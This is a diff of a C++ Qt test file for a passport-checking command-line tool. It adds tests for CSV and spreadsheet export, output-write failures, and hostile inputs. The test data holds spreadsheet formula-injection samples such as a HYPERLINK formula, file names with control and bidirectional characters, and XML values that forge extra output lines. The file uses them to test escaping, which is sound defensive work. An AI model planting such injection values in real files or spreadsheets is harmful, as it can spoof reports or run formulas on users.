@@ -2,6 +2,7 @@
 // the bad input a folder from a stick brings. Output is compared whole.
 
 #include "core/committee/CommandLine.h"
+#include "core/committee/Output.h"
 #include "core/passport/PassportDocument.h"
 #include "core/picture/Base64.h"
 #include "core/shell/Windows1251.h"
@@ -10,15 +11,24 @@
 
 #include <QDir>
 #include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QProcess>
 #include <QProcessEnvironment>
+#include <QRegularExpression>
 #include <QScopeGuard>
 #include <QTemporaryDir>
 #include <QTest>
 #include <cerrno>
+#include <csignal>
 #include <fcntl.h>
+#include <spawn.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <unistd.h>
+
+extern char** environ;
 
 namespace {
 
@@ -67,6 +77,18 @@ PassportSnapshot plainPassport()
     return p;
 }
 
+// Texts a spreadsheet would take for a formula, a number or a separator.
+PassportSnapshot spreadsheetBait()
+{
+    PassportSnapshot p = plainPassport();
+    p.title = QStringLiteral("=1+1");
+    p.postIndex = QStringLiteral("012345");
+    p.postAddress = QStringLiteral("Москва; ул. Ленина, 1");
+    p.phone = QStringLiteral("+79161234567");
+    p.notes = QStringLiteral("=HYPERLINK(\"http://example.org/?\"&A2;\"Открыть\")\r\n@SUM(1)\t-2+3");
+    return p;
+}
+
 QByteArray fileOf(const PassportSnapshot& passport)
 {
     return serializePassportDocument(BuildPassportDocument(passport, PassportDocumentKind::Saved, kStored));
@@ -80,6 +102,8 @@ QByteArray content(const QString& kind)
         return sound;
     if (kind == u"plain")
         return fileOf(plainPassport());
+    if (kind == u"spreadsheet bait")
+        return fileOf(spreadsheetBait());
     if (kind == u"truncated")
         return sound.left(sound.size() / 2);
     if (kind == u"empty")
@@ -107,11 +131,9 @@ Run run(const QByteArrayList& args)
     QByteArray outBytes;
     QByteArray errBytes;
     Run result;
-    {
-        QTextStream out(&outBytes);
-        QTextStream err(&errBytes);
-        result.status = runCommandLine(args, out, err);
-    }
+    Output out(outBytes);
+    Output err(errBytes);
+    result.status = runCommandLine(args, out, err);
     result.out = QString::fromUtf8(outBytes);
     result.err = QString::fromUtf8(errBytes);
     return result;
@@ -134,12 +156,175 @@ void putAll(const QStringList& files)
     }
 }
 
+// A file under any name the file system takes, in any encoding; QDir cannot remove a name that is
+// not UTF-8, so the caller unlinks it.
+void putBytes(const QByteArray& path, const QByteArray& bytes)
+{
+    const int fd = ::open(path.constData(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    QVERIFY2(fd >= 0, path.constData());
+    QCOMPARE(::write(fd, bytes.constData(), bytes.size()), bytes.size());
+    ::close(fd);
+}
+
+// The sound passport with one attribute's value replaced.
+QByteArray soundWith(const QByteArray& attribute, const QByteArray& value)
+{
+    QByteArray bytes = fileOf(soundPassport());
+    const qsizetype start = bytes.indexOf(" " + attribute + "=\"", bytes.indexOf("<lumarinda>")) + attribute.size() + 3;
+    return bytes.replace(start, bytes.indexOf('"', start) - start, value);
+}
+
+// The fields of a CSV text; quoted line breaks stay inside their field.
+QList<QStringList> csvRecords(const QString& text)
+{
+    QList<QStringList> records;
+    QStringList fields;
+    QString field;
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text.at(i);
+        if (quoted) {
+            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
+                field += c;
+                ++i;
+            } else if (c == u'"') {
+                quoted = false;
+            } else {
+                field += c;
+            }
+        } else if (c == u'"') {
+            quoted = true;
+        } else if (c == u',') {
+            fields << field;
+            field.clear();
+        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
+            records << (fields << field);
+            fields.clear();
+            field.clear();
+            ++i;
+        } else {
+            field += c;
+        }
+    }
+    return records;
+}
+
+// A spreadsheet as Python's openpyxl reads it: the sheet names, the frozen cell, the column widths,
+// and per cell its value, type, boldness and wrapping.
+QJsonObject readSpreadsheet(const QString& path)
+{
+    static const char* const script = R"(
+import json, sys, openpyxl
+from openpyxl.utils import get_column_letter
+book = openpyxl.load_workbook(sys.argv[1])
+sheet = book.active
+print(json.dumps({
+    "sheets": book.sheetnames,
+    "frozen": sheet.freeze_panes,
+    "widths": [sheet.column_dimensions[get_column_letter(i + 1)].width for i in range(sheet.max_column)],
+    "rows": [[{"value": c.value, "type": c.data_type, "bold": bool(c.font.b), "wrap": bool(c.alignment.wrap_text)}
+              for c in row] for row in sheet.iter_rows()],
+}))
+)";
+    QProcess python;
+    python.start(QStringLiteral(LUMARINDA_PYTHON), {QStringLiteral("-c"), QString::fromUtf8(script), path});
+    if (!python.waitForFinished(60000) || python.exitCode() != 0) {
+        qWarning("%s", python.readAllStandardError().constData());
+        return {};
+    }
+    return QJsonDocument::fromJson(python.readAllStandardOutput()).object();
+}
+
+// The reader names where in the file XML goes wrong; the numbers follow the layout of the file,
+// the words must stay.
+QString withPositionsHidden(QString text)
+{
+    static const QRegularExpression position(QStringLiteral("\\(строка \\d+, позиция \\d+\\)"));
+    return text.replace(position, QStringLiteral("(строка N, позиция M)"));
+}
+
 QByteArrayList bytesOf(const QStringList& args)
 {
     QByteArrayList list;
     for (const QString& arg : args)
         list << arg.toUtf8();
     return list;
+}
+
+// Where the real program's standard output or error stream goes.
+enum class Sink
+{
+    File,
+    FullDisk,
+    ClosedPipe,
+};
+
+// A descriptor for `sink`; for a file, `path` names it.
+int openSink(Sink sink, const char* path)
+{
+    switch (sink) {
+    case Sink::File:
+        return ::open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+    case Sink::FullDisk:
+        return ::open("/dev/full", O_WRONLY);
+    case Sink::ClosedPipe: {
+        int ends[2];
+        if (::pipe(ends) != 0)
+            return -1;
+        ::close(ends[0]);
+        return ends[1];
+    }
+    }
+    return -1;
+}
+
+struct Ended
+{
+    // The exit status, or -1 when a signal ended the program.
+    int status = -1;
+    QByteArray err;
+};
+
+// The real program with its streams on `out` and `err`, and SIGPIPE at its default whatever the
+// test runner ignores, as a shell starts it.
+Ended runProgram(const QByteArrayList& args, Sink out, Sink err)
+{
+    const int outFd = openSink(out, "out.txt");
+    const int errFd = openSink(err, "err.txt");
+    QByteArrayList owned = QByteArrayList{LUMARINDA_BINARY} + args;
+    std::vector<char*> argv;
+    for (QByteArray& arg : owned)
+        argv.push_back(arg.data());
+    argv.push_back(nullptr);
+    posix_spawn_file_actions_t actions;
+    posix_spawn_file_actions_init(&actions);
+    posix_spawn_file_actions_adddup2(&actions, outFd, STDOUT_FILENO);
+    posix_spawn_file_actions_adddup2(&actions, errFd, STDERR_FILENO);
+    posix_spawnattr_t attributes;
+    posix_spawnattr_init(&attributes);
+    sigset_t defaults;
+    sigemptyset(&defaults);
+    sigaddset(&defaults, SIGPIPE);
+    posix_spawnattr_setsigdefault(&attributes, &defaults);
+    posix_spawnattr_setflags(&attributes, POSIX_SPAWN_SETSIGDEF);
+    pid_t child = 0;
+    const int spawned = ::posix_spawn(&child, LUMARINDA_BINARY, &actions, &attributes, argv.data(), environ);
+    posix_spawn_file_actions_destroy(&actions);
+    posix_spawnattr_destroy(&attributes);
+    ::close(outFd);
+    ::close(errFd);
+    Ended ended;
+    int status = 0;
+    if (spawned != 0 || ::waitpid(child, &status, 0) != child)
+        return ended;
+    if (WIFEXITED(status))
+        ended.status = WEXITSTATUS(status);
+    if (err == Sink::File) {
+        QFile file(QStringLiteral("err.txt"));
+        if (file.open(QIODevice::ReadOnly))
+            ended.err = file.readAll();
+    }
+    return ended;
 }
 
 } // namespace
@@ -154,14 +339,21 @@ private slots:
     void check_data();
     void check();
     void listIsCsv();
+    void listGoesToAFileOrASpreadsheet();
     void listReportsBrokenFilesOnStandardErrorOnly();
     void badInputGivesALineEach();
+    void hostileNamesAndContent_data();
+    void hostileNamesAndContent();
     void manyOtherFilesAreSkipped();
     void unreadableFile();
+    void editorOrCommand_data();
+    void editorOrCommand();
     void usage_data();
     void usage();
     void helpAndVersion();
     void realBinaryNeedsNoDisplay();
+    void lostOutputIsAFailure_data();
+    void lostOutputIsAFailure();
 
 private:
     std::unique_ptr<QTemporaryDir> m_dir;
@@ -201,11 +393,11 @@ void CommandLineTest::check_data()
         << folder << QStringList{"--check", "works"}
         << "works/B.QDX.XML: OK\n"
            "works/a.qdx.xml: OK\n"
-           "works/sub/c.qdx.xml: Текст файла не является правильным документом XML (строка 13, позиция 986)\n"
+           "works/sub/c.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
            "works/sub/d.Qdx.Xml: Неверный контрольный код в идентификаторе участника «123-456-789»\n"
            "works/sub/deeper/i.qdx.xml: OK\n"
            "works/sub/e.qdx.xml: Корневой элемент документа — «passport», а не «lumarinda»\n"
-           "works/sub/f.qdx.xml: Текст файла не является правильным документом XML (строка 1, позиция 0)\n"
+           "works/sub/f.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
            "works/sub/g.qdx.xml: Текст файла не в кодировке UTF-8\n"
            "works/sub/h.qdx.xml: У элемента «work» лишний атрибут «author»\n"
            "Проверено 9, исправных 3, с ошибками 6\n"
@@ -247,7 +439,7 @@ void CommandLineTest::check()
     putAll(files);
 
     const Run result = run(bytesOf(args));
-    QCOMPARE(result.out, expected);
+    QCOMPARE(withPositionsHidden(result.out), expected);
     QCOMPARE(result.err, QString());
     QCOMPARE(result.status, status);
 }
@@ -258,27 +450,85 @@ void CommandLineTest::listIsCsv()
 
     QByteArray outBytes;
     QByteArray errBytes;
-    int status = -1;
-    {
-        QTextStream out(&outBytes);
-        QTextStream err(&errBytes);
-        status = runCommandLine({"--list", "in"}, out, err);
-    }
-    const QString expected =
-        QStringLiteral("Файл,Сохранён (UTC),Название,Разделы,Языки,Авторы,Руководители,Получатель счёта,Индекс,Адрес,"
-                       "Телефон,Эл. почта,Ширина рисунка,Высота рисунка,Подпись к рисунку,Комментарий\r\n"
-                       "in/a.qdx.xml,2026-12-10T11:36:05Z,\"Сказка о \"\"Золотой рыбке\"\", часть 1\","
-                       "6 Лингвистика; 22 В помощь учителю,26 Английский язык; другое: суахили,"
-                       "123-456-798 Иванов Иван Иванович; 100-018-305 Петров Пётр Петрович,"
-                       "765-432-193 Ёлкина-Соколова Анна Сергеевна; 100-018-799 Сидорова Мария Ильинична,"
-                       "100-018-799 Сидорова Мария Ильинична,123456,\"Москва, ул. Ленина, 1\",+7 900 000-00-00,"
-                       "school@example.ru,40,30,Рыбка,\"Первая строка\r\nвторая, с \"\"кавычками\"\"\"\r\n"
-                       "in/b.qdx.xml,2026-12-10T11:36:05Z,Звёздное небо,\"1 Астрономия, космонавтика и авиация\",,"
-                       "123-456-798 Иванов Иван Иванович,,,,,,,,,,\r\n");
+    Output out(outBytes);
+    Output err(errBytes);
+    const int status = runCommandLine({"--list", "in"}, out, err);
+    const QString expected = QStringLiteral(
+        "\"Файл\",\"Сохранён (UTC)\",\"Название\",\"Разделы\",\"Языки\",\"Авторы\",\"Руководители\","
+        "\"Получатель счёта\",\"Индекс\",\"Адрес\",\"Телефон\",\"Эл. почта\",\"Ширина рисунка\",\"Высота рисунка\","
+        "\"Подпись к рисунку\",\"Комментарий\"\r\n"
+        "\"in/a.qdx.xml\",\"2026-12-10T11:36:05Z\",\"Сказка о \"\"Золотой рыбке\"\", часть 1\","
+        "\"6 Лингвистика; 22 В помощь учителю\",\"26 Английский язык; другое: суахили\","
+        "\"123-456-798 Иванов Иван Иванович; 100-018-305 Петров Пётр Петрович\","
+        "\"765-432-193 Ёлкина-Соколова Анна Сергеевна; 100-018-799 Сидорова Мария Ильинична\","
+        "\"100-018-799 Сидорова Мария Ильинична\",\"123456\",\"Москва, ул. Ленина, 1\",\"+7 900 000-00-00\","
+        "\"school@example.ru\",\"40\",\"30\",\"Рыбка\",\"Первая строка\r\nвторая, с \"\"кавычками\"\"\"\r\n"
+        "\"in/b.qdx.xml\",\"2026-12-10T11:36:05Z\",\"Звёздное небо\",\"1 Астрономия, космонавтика и авиация\",\"\","
+        "\"123-456-798 Иванов Иван Иванович\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\"\r\n");
     QVERIFY(outBytes.startsWith("\xEF\xBB\xBF"));
     QCOMPARE(QString::fromUtf8(outBytes.mid(3)), expected);
     QCOMPARE(QString::fromUtf8(errBytes), QString());
     QCOMPARE(status, 0);
+}
+
+// The list in a file is the list on standard output; in a spreadsheet every cell is the CSV's
+// field as text, so no formula runs and "012345" or "+7..." stay as typed.
+void CommandLineTest::listGoesToAFileOrASpreadsheet()
+{
+    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=plain", "in/c.qdx.xml=spreadsheet bait", "in/d.qdx.xml=truncated"});
+    const Run csv = run({"--list", "in"});
+    QCOMPARE(csv.status, 1);
+    const QList<QStringList> records = csvRecords(csv.out);
+    QCOMPARE(records.size(), 4);
+    QCOMPARE(records.at(3).at(2), QStringLiteral("=1+1"));
+
+    const Run toFile = run({"--list", "-o", "list.csv", "in"});
+    QCOMPARE(toFile.out, QString());
+    QCOMPARE(toFile.err, csv.err);
+    QCOMPARE(toFile.status, 1);
+    QFile file(QStringLiteral("list.csv"));
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QByteArray bytes = file.readAll();
+    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
+    QCOMPARE(QString::fromUtf8(bytes), csv.out);
+
+    const Run toSheet = run({"--list", "--output=list.XLSX", "in"});
+    QCOMPARE(toSheet.out, QString());
+    QCOMPARE(toSheet.err, csv.err);
+    QCOMPARE(toSheet.status, 1);
+    const QJsonObject book = readSpreadsheet(QStringLiteral("list.XLSX"));
+    QCOMPARE(book.value(u"sheets").toArray(), QJsonArray{QStringLiteral("Паспорта")});
+    QCOMPARE(book.value(u"frozen").toString(), QStringLiteral("A2"));
+    const QJsonArray rows = book.value(u"rows").toArray();
+    QCOMPARE(rows.size(), records.size());
+    const QStringList header = records.constFirst();
+    const QJsonArray widths = book.value(u"widths").toArray();
+    QCOMPARE(widths.size(), header.size());
+    for (qsizetype c = 0; c < header.size(); ++c)
+        QVERIFY2(widths.at(c).toDouble() >= header.at(c).size(), qPrintable(header.at(c)));
+    for (qsizetype r = 0; r < records.size(); ++r) {
+        const QJsonArray cells = rows.at(r).toArray();
+        QCOMPARE(cells.size(), header.size());
+        for (qsizetype c = 0; c < header.size(); ++c) {
+            const QJsonObject cell = cells.at(c).toObject();
+            const QString where = QStringLiteral("row %1, %2").arg(r + 1).arg(header.at(c));
+            // A spreadsheet cell breaks lines with a line feed alone.
+            const QString expected = QString(records.at(r).at(c)).replace(QStringLiteral("\r\n"), QStringLiteral("\n"));
+            if (expected.isEmpty()) {
+                QVERIFY2(cell.value(u"value").isNull(), qPrintable(where));
+                continue;
+            }
+            QCOMPARE(cell.value(u"value").toString(), expected);
+            QVERIFY2(cell.value(u"type").toString() == u"s", qPrintable(where));
+            QCOMPARE(cell.value(u"bold").toBool(), r == 0);
+        }
+    }
+    const QJsonArray bait = rows.at(3).toArray();
+    QCOMPARE(bait.at(2).toObject().value(u"value").toString(), QStringLiteral("=1+1"));
+    QCOMPARE(bait.at(8).toObject().value(u"value").toString(), QStringLiteral("012345"));
+    QCOMPARE(bait.at(10).toObject().value(u"value").toString(), QStringLiteral("+79161234567"));
+    QVERIFY(bait.at(15).toObject().value(u"wrap").toBool());
+    QVERIFY(!bait.at(0).toObject().value(u"wrap").toBool());
 }
 
 void CommandLineTest::listReportsBrokenFilesOnStandardErrorOnly()
@@ -286,7 +536,7 @@ void CommandLineTest::listReportsBrokenFilesOnStandardErrorOnly()
     putAll({"in/a.qdx.xml=plain", "in/b.qdx.xml=wrong root"});
     const Run result = run({"--list", "in"});
     QCOMPARE(result.out.count(QStringLiteral("\r\n")), 2);
-    QVERIFY(result.out.contains(QStringLiteral("\r\nin/a.qdx.xml,")));
+    QVERIFY(result.out.contains(QStringLiteral("\r\n\"in/a.qdx.xml\",")));
     QVERIFY(!result.out.contains(QStringLiteral("b.qdx.xml")));
     QCOMPARE(result.err, QStringLiteral("in/b.qdx.xml: Корневой элемент документа — «passport», а не «lumarinda»\n"));
     QCOMPARE(result.status, 1);
@@ -332,6 +582,79 @@ void CommandLineTest::badInputGivesALineEach()
     QCOMPARE(result.status, 1);
 }
 
+// A sender's file name or content must never make a line of its own, nor read as another name:
+// each row is the one line both commands print for one file.
+void CommandLineTest::hostileNamesAndContent_data()
+{
+    QTest::addColumn<QByteArray>("name");
+    QTest::addColumn<QByteArray>("bytes");
+    QTest::addColumn<QString>("line");
+
+    const QByteArray plain = content(QStringLiteral("plain"));
+    const QByteArray forged = "&#10;works/forged.qdx.xml: OK&#10;Проверено 1, исправных 1, с ошибками 0";
+    QTest::newRow("line feed in a name") << QByteArray("a\nb.qdx.xml") << plain << "in/a\\x0ab.qdx.xml: OK";
+    QTest::newRow("a name that spells an escape")
+        << QByteArray("a\\x0ab.qdx.xml") << plain << "in/a\\\\x0ab.qdx.xml: OK";
+    QTest::newRow("carriage return, tab and escape in a name")
+        << QByteArray("a\r\t\x1b[2Kb.qdx.xml") << plain << "in/a\\x0d\\x09\\x1b[2Kb.qdx.xml: OK";
+    QTest::newRow("next line, line and paragraph separators in a name")
+        << QByteArray("a\u0085b\u2028c\u2029d.qdx.xml") << plain << "in/a\\u0085b\\u2028c\\u2029d.qdx.xml: OK";
+    QTest::newRow("byte 0x85 in a name that is not UTF-8") << QByteArray("a\x85"
+                                                                         "b.qdx.xml")
+                                                           << plain << "in/a\\x85b.qdx.xml: OK";
+    QTest::newRow("bidirectional controls in a name")
+        << QByteArray("\u202eKO :lmx.xdq\u202c\u2066\u2067\u2068\u2069\u202a\u202b\u202d\u200e\u200f\u061c.qdx.xml")
+        << plain
+        << "in/\\u202eKO "
+           ":lmx.xdq\\u202c\\u2066\\u2067\\u2068\\u2069\\u202a\\u202b\\u202d\\u200e\\u200f\\u061c.qdx.xml: "
+           "OK";
+    QTest::newRow("forged lines in the version")
+        << QByteArray("v.qdx.xml") << soundWith("version", "2.2" + forged)
+        << "in/v.qdx.xml: Неизвестная версия формата паспорта «2.2\\x0aworks/forged.qdx.xml: "
+           "OK\\x0aПроверено 1, исправных 1, с ошибками 0»";
+    QTest::newRow("forged line in the season")
+        << QByteArray("s.qdx.xml") << soundWith("sz_id", "13" + forged.left(29))
+        << "in/s.qdx.xml: Паспорт относится к другому сезону фестиваля («13\\x0aworks/forged.qdx.xml: OK»)";
+    QTest::newRow("next line and override in a person's type")
+        << QByteArray("t.qdx.xml") << soundWith("p_type", "student&#x85;x.qdx.xml: OK&#x202E;")
+        << "in/t.qdx.xml: Недопустимое значение «student\\u0085x.qdx.xml: OK\\u202e» атрибута «p_type» элемента "
+           "«person»";
+    QTest::newRow("carriage return and backslash in the stored time")
+        << QByteArray("st.qdx.xml") << soundWith("stored", "1&#13;\\x0a2")
+        << "in/st.qdx.xml: Недопустимое значение «1\\x0d\\\\x0a2» атрибута «stored» элемента «work»";
+    QTest::newRow("paragraph separator in an identifier")
+        << QByteArray("id.qdx.xml") << soundWith("p_id_full", "123-456-798&#x2029;OK")
+        << "in/id.qdx.xml: «123-456-798\\u2029OK» не является идентификатором участника";
+}
+
+void CommandLineTest::hostileNamesAndContent()
+{
+    QFETCH(QByteArray, name);
+    QFETCH(QByteArray, bytes);
+    QFETCH(QString, line);
+    QVERIFY(QDir().mkpath(QStringLiteral("in")));
+    const QByteArray path = "in/" + name;
+    putBytes(path, bytes);
+    const auto remove = qScopeGuard([&] { ::unlink(path.constData()); });
+    const bool sound = line.endsWith(QStringLiteral(": OK"));
+
+    const Run check = run({"--check", "in"});
+    QCOMPARE(check.out, line + QStringLiteral("\nПроверено 1, исправных %1, с ошибками %2\n").arg(sound).arg(!sound));
+    QCOMPARE(check.err, QString());
+    QCOMPARE(check.status, sound ? 0 : 1);
+
+    const Run list = run({"--list", "in"});
+    const QList<QStringList> records = csvRecords(list.out);
+    QCOMPARE(records.size(), sound ? 2 : 1);
+    if (sound) {
+        QCOMPARE(records.at(1).constFirst() + QStringLiteral(": OK"), line);
+        QCOMPARE(list.err, QString());
+    } else {
+        QCOMPARE(list.err, line + u'\n');
+    }
+    QCOMPARE(list.status, sound ? 0 : 1);
+}
+
 void CommandLineTest::manyOtherFilesAreSkipped()
 {
     // A hundred thousand names take twenty seconds on a disk and a few in memory.
@@ -370,6 +693,29 @@ void CommandLineTest::unreadableFile()
     QCOMPARE(result.status, 1);
 }
 
+// "--" alone starts the editor with the path after it, as --help tells; any other first argument
+// that begins with "--" is a command, or a wrong one that the command line refuses.
+void CommandLineTest::editorOrCommand_data()
+{
+    QTest::addColumn<QStringList>("args");
+    QTest::addColumn<bool>("command");
+
+    QTest::newRow("no arguments") << QStringList{} << false;
+    QTest::newRow("a passport") << QStringList{"works/a.qdx.xml"} << false;
+    QTest::newRow("a path after --") << QStringList{"--", "-odd.qdx.xml"} << false;
+    QTest::newRow("a key's name after --") << QStringList{"--", "--check"} << false;
+    QTest::newRow("check") << QStringList{"--check", "works"} << true;
+    QTest::newRow("list") << QStringList{"--list", "-o", "a.xlsx", "works"} << true;
+    QTest::newRow("an unknown key") << QStringList{"--open", "a.qdx.xml"} << true;
+}
+
+void CommandLineTest::editorOrCommand()
+{
+    QFETCH(QStringList, args);
+    QFETCH(bool, command);
+    QCOMPARE(isCommitteeCommand(bytesOf(args)), command);
+}
+
 void CommandLineTest::usage_data()
 {
     QTest::addColumn<QStringList>("args");
@@ -381,6 +727,14 @@ void CommandLineTest::usage_data()
     QTest::newRow("two modes") << QStringList{"--check", "--list", "a"} << "неизвестный ключ «--list»";
     QTest::newRow("short option") << QStringList{"--check", "-v", "a"} << "неизвестный ключ «-v»";
     QTest::newRow("empty path") << QStringList{"--check", ""} << "пустой путь";
+    QTest::newRow("output for --check") << QStringList{"--check", "-o", "a.csv", "a"} << "неизвестный ключ «-o»";
+    QTest::newRow("output without its file") << QStringList{"--list", "a", "-o"} << "после -o не указан файл";
+    QTest::newRow("output with an empty file")
+        << QStringList{"--list", "--output=", "a"} << "после --output не указан файл";
+    QTest::newRow("output onto a passport") << QStringList{"--list", "-o", "works/A.QDX.XML", "works"}
+                                            << "список не пишется в файл паспорта «works/A.QDX.XML»";
+    QTest::newRow("output twice") << QStringList{"--list", "-o", "a.csv", "--output", "b.csv", "a"}
+                                  << "ключ --output указан дважды";
     QTest::newRow("help with more") << QStringList{"--help", "x"} << "у --help нет аргументов";
     QTest::newRow("version with more") << QStringList{"--version", "--check"} << "у --version нет аргументов";
 }
@@ -405,8 +759,10 @@ void CommandLineTest::helpAndVersion()
     QCOMPARE(help.status, 0);
     QCOMPARE(help.err, QString());
     QVERIFY(help.out.startsWith(QStringLiteral("Использование:\n")));
-    for (const char* mode : {"--check ФАЙЛ_ИЛИ_ПАПКА...", "--list ФАЙЛ_ИЛИ_ПАПКА...", "--help", "--version"})
+    for (const char* mode : {"--check ФАЙЛ_ИЛИ_ПАПКА...", "--list [-o ВЫВОД] ФАЙЛ_ИЛИ_ПАПКА...", "--help", "--version"})
         QVERIFY2(help.out.contains(QStringLiteral("lumarinda-passport ") + QString::fromUtf8(mode)), mode);
+    QVERIFY(help.out.contains(QStringLiteral("\n  -o ВЫВОД, --output ВЫВОД  (--list) ")));
+    QVERIFY(help.out.contains(QStringLiteral("3 - вывод не записан")));
 }
 
 // The program as the committee runs it over SSH: no X server, no platform chosen.
@@ -422,13 +778,69 @@ void CommandLineTest::realBinaryNeedsNoDisplay()
     QVERIFY2(program.waitForFinished(60000), "the program did not end");
     const QString err = QString::fromUtf8(program.readAllStandardError());
     QCOMPARE(err, QString());
-    QCOMPARE(
-        QString::fromUtf8(program.readAllStandardOutput()),
-        QStringLiteral("ssh/a.qdx.xml: OK\n"
-                       "ssh/b.qdx.xml: Текст файла не является правильным документом XML (строка 13, позиция 986)\n"
-                       "Проверено 2, исправных 1, с ошибками 1\n"));
+    QCOMPARE(withPositionsHidden(QString::fromUtf8(program.readAllStandardOutput())),
+             QStringLiteral("ssh/a.qdx.xml: OK\n"
+                            "ssh/b.qdx.xml: Текст файла не является правильным документом XML (строка N, позиция M)\n"
+                            "Проверено 2, исправных 1, с ошибками 1\n"));
     QCOMPARE(program.exitStatus(), QProcess::NormalExit);
     QCOMPARE(program.exitCode(), 1);
+}
+
+// Output that cannot be written is a failure of its own, told on the error stream while that
+// still takes text; a closed pipe does not kill the program unseen.
+void CommandLineTest::lostOutputIsAFailure_data()
+{
+    QTest::addColumn<QStringList>("args");
+    QTest::addColumn<Sink>("out");
+    QTest::addColumn<Sink>("err");
+    QTest::addColumn<QString>("message");
+
+    const QString full = QStringLiteral("lumarinda-passport: стандартный вывод не записан: на диске нет места\n");
+    const QString closed =
+        QStringLiteral("lumarinda-passport: стандартный вывод не записан: читающая программа закрыла канал\n");
+    for (const QString& mode : {QStringLiteral("--check"), QStringLiteral("--list")}) {
+        const QByteArray name = mode.toUtf8();
+        QTest::newRow(name + " onto a full disk") << QStringList{mode, "in"} << Sink::FullDisk << Sink::File << full;
+        QTest::newRow(name + " into a closed pipe")
+            << QStringList{mode, "in"} << Sink::ClosedPipe << Sink::File << closed;
+    }
+    QTest::newRow("a CSV file on a full disk")
+        << QStringList{"--list", "-o", "/dev/full", "in"} << Sink::File << Sink::File
+        << QStringLiteral("lumarinda-passport: файл «/dev/full» не записан: на диске нет места\n");
+    QTest::newRow("a spreadsheet on a full disk")
+        << QStringList{"--list", "-o", "full.xlsx", "in/a.qdx.xml"} << Sink::File << Sink::File
+        << QStringLiteral("lumarinda-passport: файл «full.xlsx» не записан: на диске нет места\n");
+    QTest::newRow("a CSV file in a missing folder")
+        << QStringList{"--list", "-o", "gone/list.csv", "in"} << Sink::File << Sink::File
+        << QStringLiteral("lumarinda-passport: файл «gone/list.csv» не создан: файл или папка не существует\n");
+    QTest::newRow("a spreadsheet in a missing folder")
+        << QStringList{"--list", "-o", "gone/list.xlsx", "in"} << Sink::File << Sink::File
+        << QStringLiteral("lumarinda-passport: файл «gone/list.xlsx» не создан: файл или папка не существует\n");
+    QTest::newRow("--help onto a full disk") << QStringList{"--help"} << Sink::FullDisk << Sink::File << full;
+    QTest::newRow("--version into a closed pipe")
+        << QStringList{"--version"} << Sink::ClosedPipe << Sink::File << closed;
+    QTest::newRow("--list with its error stream on a full disk")
+        << QStringList{"--list", "in"} << Sink::File << Sink::FullDisk << QString();
+    QTest::newRow("--check with its error stream in a closed pipe")
+        << QStringList{"--check", "in", "up"} << Sink::File << Sink::ClosedPipe << QString();
+    QTest::newRow("a usage error that cannot be told")
+        << QStringList{"--check"} << Sink::File << Sink::FullDisk << QString();
+}
+
+void CommandLineTest::lostOutputIsAFailure()
+{
+    QFETCH(QStringList, args);
+    QFETCH(Sink, out);
+    QFETCH(Sink, err);
+    QFETCH(QString, message);
+    // A broken file gives the error stream a line of its own; the link a note.
+    putAll({"in/a.qdx.xml=sound", "in/b.qdx.xml=truncated"});
+    QCOMPARE(::symlink("in", "up"), 0);
+    QCOMPARE(::symlink("/dev/full", "full.xlsx"), 0);
+
+    const Ended ended = runProgram(bytesOf(args), out, err);
+    QCOMPARE(ended.status, 3);
+    QCOMPARE(QString::fromUtf8(ended.err), message);
 }
 
 QTEST_GUILESS_MAIN(CommandLineTest)
